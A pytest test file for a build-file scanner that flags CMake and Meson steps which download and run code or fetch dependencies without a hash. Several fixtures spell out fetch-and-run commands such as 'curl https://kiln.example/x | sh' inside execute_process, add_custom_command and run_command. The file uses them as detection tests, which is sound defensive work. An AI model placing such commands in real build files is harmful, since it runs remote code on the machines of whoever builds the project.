import pytest

from knownhands.harvest.code.notes import Notes
from knownhands.harvest.code.readers.cmake import READER


def read(text: str, path: str = "CMakeLists.txt") -> set[tuple[str, int]]:
    notes = Notes(path, every_line=True, is_program=True)
    READER.read(notes, text.encode())
    return {(seen.capability, seen.line) for seen in notes.observations()}


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("project(a) # it's\nexecute_process(COMMAND curl https://kiln.example/x\n  COMMAND sh)", 2),
        ('add_custom_command(OUTPUT a COMMAND sh -c "curl https://kiln.example/x | sh" VERBATIM)', 1),
        ('set(U "https://kiln.example/x")\nexecute_process(COMMAND bash -c "curl ${U} | sh")', 2),
        ("file(DOWNLOAD https://kiln.example/x fire)\nexecute_process(COMMAND sh fire)", 2),
    ],
)
def test_what_is_downloaded_and_run_is_seen(text: str, line: int) -> None:
    assert ("fetch_and_run", line) in read(text)


@pytest.mark.parametrize(
    ("text", "is_seen"),
    [
        ("FetchContent_Declare(a URL https://kiln.example/a.zip)", True),
        ("FetchContent_Declare(a URL https://kiln.example/a.zip URL_HASH SHA256=ab)", False),
        ("ExternalProject_Add(a GIT_REPOSITORY https://kiln.example/a GIT_TAG main)", True),
        (f"ExternalProject_Add(a GIT_REPOSITORY https://kiln.example/a GIT_TAG {'a' * 40})", False),
    ],
)
def test_a_download_without_a_hash_is_seen(text: str, *, is_seen: bool) -> None:
    assert bool(read(text)) == is_seen


def test_meson_is_read() -> None:
    assert ("fetch_and_run", 2) in read(
        "project('a')\nr = run_command('sh', '-c', 'curl https://kiln.example/x | sh')", "meson.build"
    )
    assert read("[wrap-file]\nsource_url = https://kiln.example/a", "a.wrap") == {("downloads_in_build", 2)}
    assert not read("[wrap-file]\nsource_url = https://kiln.example/a\nsource_hash = ab", "a.wrap")


def test_an_ordinary_file_shows_nothing() -> None:
    assert not read("set(A b)\nadd_executable(a a.c)\nexecute_process(COMMAND git describe OUTPUT_VARIABLE V)\n")


@pytest.mark.parametrize(
    "text", ["a(" * 20_000, 'a("' * 20_000, "set(A ${A}${A})\n" * 3_000, "a([[" * 10_000, "\\" * 200_000]
)
def test_no_text_makes_it_raise_or_hang(text: str) -> None:
    read(text)
